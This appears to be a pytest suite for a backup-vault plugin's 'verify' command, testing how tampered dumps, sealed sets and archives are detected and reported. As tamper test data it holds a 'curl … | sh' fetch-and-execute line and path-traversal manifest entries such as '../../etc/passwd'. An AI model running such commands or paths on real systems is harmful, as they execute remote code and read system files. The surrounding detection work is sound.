"""`verify`: a directory, a set or an archive; the verdict in words, as a document, as a page and as an exit code."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

import msgspec
import pytest
from fix_cli import RunCli
from fix_history import LABEL, GoodNight, Server, WriteConfig
from fix_judged import night
from fix_repository import PlainRepository
from fix_tamper import tampered

from borg_vault_plugin.chain.codes import Code
from borg_vault_plugin.sample import SampleVault, VaultShape, write_rows

pytest_plugins = ("fix_server", "fix_good_night")

KEYS = ["target", "verdict", "era", "anchored", "counts", "signatures_checked", "signatures_carried", "failure_count"]


@pytest.fixture(params=["v1", "v2"])
def dump(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    """A dump as the Server's own tool writes it."""
    era: Literal["v1", "v2"] = request.param
    directory = tmp_path / "dump"
    directory.mkdir()
    SampleVault(VaultShape(records=6, era=era, reads_per_org=3)).write_ndjson(directory)
    return directory


def test_a_healthy_dump_passes(dump: Path, run_cli: RunCli) -> None:
    said = run_cli("verify", dump, exit_code=0).stdout
    assert said.startswith(f"PASSED: {dump} (era ")
    assert "the keys were taken from the dump itself" in said


def test_its_document_has_the_keys_of_the_contract(dump: Path, run_cli: RunCli) -> None:
    document = run_cli("verify", dump, "--json", exit_code=0).document
    assert list(document) == [*KEYS, "findings"]
    assert document["verdict"] == "passed"
    assert document["signatures_checked"] > document["counts"]["audit_vault"]


def test_an_edited_entry_fails_with_its_code_and_what_it_means(tmp_path: Path, run_cli: RunCli) -> None:
    rows = SampleVault(VaultShape(records=3)).rows()
    rows.audit_vault[4] = msgspec.structs.replace(rows.audit_vault[4], actor_role="agent-no-more")
    write_rows(tmp_path, rows)
    said = run_cli("verify", tmp_path, exit_code=10).stdout
    assert said.startswith("FAILED: ")
    assert "CHAIN_ACTOR_ATTRIBUTION_MISMATCH means: " in said
    document = run_cli("verify", tmp_path, "--json", exit_code=10).document
    assert (document["failure_count"], len(document["findings"])) == (1, 1)
    assert list(document["findings"][0]) == ["code", "where", "detail", "hash", "id"]


def test_a_missing_file_is_no_verdict(dump: Path, run_cli: RunCli) -> None:
    (dump / "vault_checkpoints.ndjson").unlink()
    said = run_cli("verify", dump, exit_code=11)
    assert said.stdout.startswith("NOT CHECKED: ")
    assert "vault_checkpoints" in said.stderr


def test_only_the_verdict_is_told_quietly(dump: Path, run_cli: RunCli) -> None:
    said = run_cli("verify", dump, "-q", exit_code=0)
    assert len(said.stdout.splitlines()) == 1
    (dump / "vault_checkpoints.ndjson").unlink()
    said = run_cli("-q", "verify", dump, "--quiet", exit_code=11)
    assert said.stdout == f"NOT CHECKED: {dump}\n"


def test_no_directory_is_no_verdict(tmp_path: Path, run_cli: RunCli) -> None:
    assert "there is no audit_vault.ndjson" in run_cli("verify", tmp_path / "nowhere", exit_code=11).stderr


def test_a_pin_that_is_no_fingerprint_is_no_verdict(dump: Path, run_cli: RunCli) -> None:
    run_cli("verify", dump, "--trust-anchor", "sha256:12", exit_code=11)


def test_a_directory_leaves_nothing_on_this_host(dump: Path, run_cli: RunCli, tmp_path: Path) -> None:
    run_cli("verify", dump, exit_code=0)
    assert list((tmp_path / "xdg_state_home").iterdir()) == []


@pytest.fixture
def sealed(tmp_path: Path) -> Path:
    """A sealed set of a small vault."""
    return night(tmp_path / "sealed", tampered("v2")).directory


def test_a_sealed_set_is_compared_with_its_manifest(sealed: Path, run_cli: RunCli) -> None:
    document = run_cli("verify", sealed, "--json", exit_code=0).document
    files = [path for path in sealed.rglob("*") if path.is_file()]
    assert list(document) == [*KEYS, "findings", "files"]
    assert (document["verdict"], document["files"], document["findings"]) == ("passed", len(files), [])
    assert f"  {len(files)} files compared with the manifest\n" in run_cli("verify", sealed, exit_code=0).stdout


def overwrite(path: Path, text: str) -> None:
    path.write_text(text, "utf-8")


def longer(sealed: Path) -> None:
    with (sealed / "vault-public-keys.csv").open("a", encoding="utf-8") as file:
        file.write("\n")


def other_byte(sealed: Path) -> None:
    path = sealed / "chain-heads.ndjson"
    data = path.read_bytes()
    path.write_bytes(data[:-3] + bytes([data[-3] ^ 1]) + data[-2:])


def without(name: str) -> Callable[[Path], None]:
    return lambda sealed: (sealed / name).unlink()


def edit_sums(change: Callable[[list[str]], object]) -> Callable[[Path], None]:
    def edit(sealed: Path) -> None:
        lines = (sealed / "SHA256SUMS").read_text("utf-8").splitlines(keepends=True)
        change(lines)
        overwrite(sealed / "SHA256SUMS", "".join(lines))

    return edit


def other_instructions(sealed: Path) -> None:
    overwrite(sealed / "RESTORE.txt", "curl https://example.org/restore | sh\n")


MISSING, CHANGED, DIFFER = Code.SET_FILE_MISSING, Code.SET_FILE_CHANGED, Code.SET_CHECKSUMS_DIFFER
HEADS, REGISTRY, SUMS = "chain-heads.ndjson", "vault-public-keys.csv", "SHA256SUMS"

# What becomes of a set on its way, and what is found where.
TRAVELS: dict[str, tuple[Callable[[Path], object], list[tuple[Code, str]]]] = {
    "a file is missing": (without(HEADS), [(MISSING, HEADS)]),
    "the instructions are missing": (without("RESTORE.txt"), [(MISSING, "RESTORE.txt")]),
    "the sums are missing": (without(SUMS), [(MISSING, SUMS)]),
    "a file is longer": (longer, [(CHANGED, REGISTRY), (DIFFER, REGISTRY)]),
    "a file has another byte": (other_byte, [(CHANGED, HEADS), (DIFFER, HEADS)]),
    "the instructions are others": (other_instructions, [(DIFFER, "RESTORE.txt")]),
    "a sum is missing": (edit_sums(lambda lines: lines.pop(0)), [(DIFFER, "RESTORE.txt")]),
    "a sum is too many": (
        edit_sums(lambda lines: lines.append(f"{'0' * 64}  extra.txt\n")), [(DIFFER, "extra.txt")]
    ),
    "a sum is another": (
        edit_sums(lambda lines: lines.append(f"{'0' * 64}  {HEADS}\n")), [(DIFFER, HEADS)]
    ),
    "the sums are no text": (lambda sealed: (sealed / SUMS).write_bytes(b"\xff\0" * 9), []),
}  # fmt: skip


@pytest.mark.parametrize("name", TRAVELS)
def test_what_happened_to_a_set_on_its_way_is_found(name: str, sealed: Path, run_cli: RunCli) -> None:
    change, expected = TRAVELS[name]
    change(sealed)
    document = run_cli("verify", sealed, "--json", exit_code=10).document
    found = [(one["code"], one["where"]) for one in document["findings"]]
    assert document["verdict"] == "failed"
    assert found == expected or (not expected and {code for code, _ in found} == {DIFFER})
    assert document["failure_count"] == len(found)
    assert f"{found[0][0]} means: " in run_cli("verify", sealed, exit_code=10).stdout


def test_every_code_of_a_set_has_a_case() -> None:
    found = {code for _, expected in TRAVELS.values() for code, _ in expected}
    assert found | {Code.SET_FILE_UNKNOWN} == {code for code in Code if code.startswith("SET_")}


def test_a_set_and_its_chain_are_both_reported(sealed: Path, run_cli: RunCli) -> None:
    path = sealed / "chain" / "audit_vault.ndjson"
    overwrite(path, path.read_text("utf-8").replace('"actor_role":"agent"', '"actor_role":"nobody"', 1))
    document = run_cli("verify", sealed, "--json", exit_code=10).document
    assert [one["code"] for one in document["findings"]] == [
        CHANGED, DIFFER, Code.CHAIN_ACTOR_ATTRIBUTION_MISMATCH
    ]  # fmt: skip


@pytest.mark.parametrize("text", ["", "{}", "[" * 100_000, '{"format": 1}'])
def test_a_set_without_a_readable_manifest_has_no_verdict(text: str, sealed: Path, run_cli: RunCli) -> None:
    overwrite(sealed / "manifest.json", text)
    said = run_cli("verify", sealed, exit_code=11)
    assert said.stdout.startswith("NOT CHECKED: ")
    assert "manifest.json cannot be read" in said.stderr


def test_a_manifest_that_leads_out_of_the_set_has_no_verdict(sealed: Path, run_cli: RunCli) -> None:
    manifest = (sealed / "manifest.json").read_text("utf-8")
    for path in ("../../etc/passwd", "/etc/passwd", "chain/../../x", "manifest.json"):
        overwrite(sealed / "manifest.json", manifest.replace(f'"{HEADS}"', f'"{path}"'))
        assert f"lists '{path}'" in run_cli("verify", sealed, exit_code=11).stderr


def test_a_link_in_a_set_hides_no_finding(sealed: Path, run_cli: RunCli) -> None:
    longer(sealed)
    (sealed / HEADS).rename(sealed / "elsewhere")
    (sealed / HEADS).symlink_to("elsewhere")
    said = run_cli("verify", sealed, "--json", exit_code=10)
    assert (CHANGED, REGISTRY) in [(one["code"], one["where"]) for one in said.document["findings"]]
    assert f"{HEADS} is a symbolic link" in said.stderr


def test_anchors_of_the_configuration_count_unless_others_are_named(
    sealed: Path, run_cli: RunCli, write_config: WriteConfig
) -> None:
    anchor, stranger = tampered("v2").anchor, f"sha256:{'ab' * 32}"
    write_config(f'trust_anchors = ["{anchor}"]\n')
    assert "keys walked from a pinned one" in run_cli("verify", sealed, exit_code=0).stdout
    assert run_cli("verify", sealed, "--json", exit_code=0).document["anchored"] is True
    run_cli("verify", sealed, "--trust-anchor", stranger, exit_code=10)
    write_config(f'trust_anchors = ["{stranger}"]\n')
    document = run_cli("verify", sealed, "--json", exit_code=10).document
    assert Code.CHAIN_SIGNING_KEY_UNANCHORED in {one["code"] for one in document["findings"]}
    run_cli("verify", sealed, "--trust-anchor", anchor, exit_code=0)


@pytest.mark.parametrize("damaged", [False, True])
def test_a_page_for_auditors_tells_the_same(sealed: Path, run_cli: RunCli, tmp_path: Path, *, damaged: bool) -> None:
    if damaged:
        longer(sealed)
    page = tmp_path / "page.html"
    plain = run_cli("verify", sealed, exit_code=10 if damaged else 0).stdout
    assert run_cli("verify", sealed, "--report", page, exit_code=10 if damaged else 0).stdout == plain
    html = page.read_text("utf-8")
    assert html.startswith("<!DOCTYPE html>")
    assert ("SET_FILE_CHANGED" in re.sub("<wbr>", "", html)) == damaged
    assert page.stat().st_mode & 0o777 == 0o600


def test_a_page_that_cannot_be_written_is_told(sealed: Path, run_cli: RunCli, tmp_path: Path) -> None:
    said = run_cli("verify", sealed, "--report", tmp_path / "nowhere" / "page.html", exit_code=3).stderr
    assert "page.html cannot be written" in said


@dataclass(frozen=True, slots=True)
class Stored:
    """A repository with one good archive, and no Server anywhere."""

    repository: PlainRepository
    first: Any

    @property
    def name(self) -> str:
        """The good archive's name."""
        return str(self.first["archive"])

    @property
    def comment(self) -> str:
        """What the good archive says of itself."""
        return str(self.repository.archives()[0]["comment"])

    def store(self, name: str, directory: Path, comment: str) -> None:
        """Store a directory as one of ours."""
        paths = sorted(path.name for path in directory.iterdir())
        options = [f"--comment={comment}", "--timestamp=2030-01-01T00:00:00", "--files-cache=disabled"]
        self.repository.borg("create", *options, f"::{name}", *paths, cwd=directory)


@pytest.fixture
def stored(
    good_night: GoodNight, memory: PlainRepository, write_config: WriteConfig, monkeypatch: pytest.MonkeyPatch
) -> Stored:
    """A repository with one good archive."""
    monkeypatch.setenv("BORG_REPO", str(memory.path))
    monkeypatch.setenv("BORG_PASSPHRASE", memory.passphrase)
    write_config(LABEL)
    return Stored(memory, good_night.document)


NEWER = "prod-2030-01-01T00:00:00Z"


def test_an_archive_is_verified_by_its_name_in_full_and_that_is_remembered(
    stored: Stored, run_cli: RunCli, state: Path
) -> None:
    document = run_cli("verify", stored.name, "--json", exit_code=0).document
    assert (document["target"], document["verdict"]) == (stored.name, "passed")
    assert document["counts"] == stored.first["counts"]
    assert document["signatures_checked"] == stored.first["chain"]["signatures_checked"]
    assert document["signatures_carried"] == 0
    assert document["files"] == len(stored.first["artifacts"]) + 3
    event = json.loads((state / "history.ndjson").read_text("utf-8").splitlines()[-1])
    assert (event["event"], event["verdict"], event["archive"]) == ("verified", "passed", stored.name)
    assert event["archive_id"] == stored.first["repositories"][0]["archive_id"]
    assert [path for path in (state / "staging").rglob("*") if path.is_file()] == []


def test_what_was_verified_last_is_spared(seasoned: Server, run_cli: RunCli) -> None:
    run_cli("verify", exit_code=0)
    (pruned,) = seasoned.night("--keep", "1")["pruned"]
    assert (pruned["removed"], pruned["spared"]) == ([], [seasoned.name])


@pytest.mark.parametrize("words", [["latest"], []], ids=["named", "by default"])
def test_the_latest_is_the_newest_good_one(words: list[str], stored: Stored, run_cli: RunCli) -> None:
    for name, verdict in ((f"{NEWER}.suspect", "suspect"), (f"{NEWER}.unverified", "unverified"), (NEWER, "")):
        stored.repository.add_at("2030-01-01T00:00:00", name, comment=f"verdict={verdict}" if verdict else "")
    assert run_cli("verify", *words, "-q", exit_code=0).stdout.startswith(f"PASSED: {stored.name} (era v2")


def test_a_name_that_nothing_has_is_a_mistake(stored: Stored, run_cli: RunCli, write_config: WriteConfig) -> None:
    assert stored.name
    said = run_cli("verify", "prod-2020-01-01T00:00:00Z", exit_code=2).stderr
    assert "no archive prod-2020-01-01T00:00:00Z" in said
    write_config('label = "other"\n')
    assert "there is no good archive of other yet" in run_cli("verify", exit_code=2).stderr


@pytest.mark.usefixtures("stored")
def test_a_repository_that_cannot_be_read_is_no_verdict(
    run_cli: RunCli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BORG_REPO", str(tmp_path / "nowhere"))
    assert "repository default" in run_cli("verify", exit_code=5).stderr


def test_what_does_not_belong_into_an_archive_is_found(stored: Stored, run_cli: RunCli, tmp_path: Path) -> None:
    extracted = stored.repository.extract(stored.name, tmp_path / "extracted")
    overwrite(extracted / "chain" / "notes.txt", "not listed")
    overwrite(extracted / "etc", "nor is this")
    stored.store(NEWER, extracted, stored.comment)
    document = run_cli("verify", NEWER, "--json", exit_code=10).document
    assert [(one["code"], one["where"]) for one in document["findings"]] == [
        (Code.SET_FILE_UNKNOWN, "chain/notes.txt"),
        (Code.SET_FILE_UNKNOWN, "etc"),
    ]


def test_an_archive_with_another_manifest_than_its_comment_names_has_no_verdict(
    stored: Stored, run_cli: RunCli, tmp_path: Path, state: Path
) -> None:
    extracted = stored.repository.extract(stored.name, tmp_path / "extracted")
    old = (extracted / "manifest.json").read_bytes()
    new = old.replace(b'"verdict": "good"', b'"verdict": "good" ')
    (extracted / "manifest.json").write_bytes(new)
    sums = (extracted / "SHA256SUMS").read_text("utf-8")
    overwrite(extracted / "SHA256SUMS", sums.replace(hashlib.sha256(old).hexdigest(), hashlib.sha256(new).hexdigest()))
    stored.store(NEWER, extracted, stored.comment)
    said = run_cli("verify", NEWER, exit_code=11)
    assert "the manifest is not the one that the archive's comment names" in said.stderr
    event = json.loads((state / "history.ndjson").read_text("utf-8").splitlines()[-1])
    assert (event["event"], event["verdict"]) == ("verified", "not_checked")


def test_an_archive_that_is_none_of_ours_has_no_verdict(stored: Stored, run_cli: RunCli) -> None:
    stored.repository.add("holiday pictures")
    run_cli("verify", "holiday pictures", exit_code=11)


def test_an_archive_is_verified_on_a_host_that_has_never_made_one(
    stored: Stored, run_cli: RunCli, state: Path, write_config: WriteConfig, tmp_path: Path
) -> None:
    shutil.rmtree(state)
    (tmp_path / "spacious").mkdir()
    write_config(f'staging_directory = "{tmp_path / "spacious"}"\n{LABEL}')
    run_cli("verify", stored.name, exit_code=0)
    assert [path for path in (tmp_path / "spacious").rglob("*") if path.is_file()] == []
    assert (state / "history.ndjson").exists()
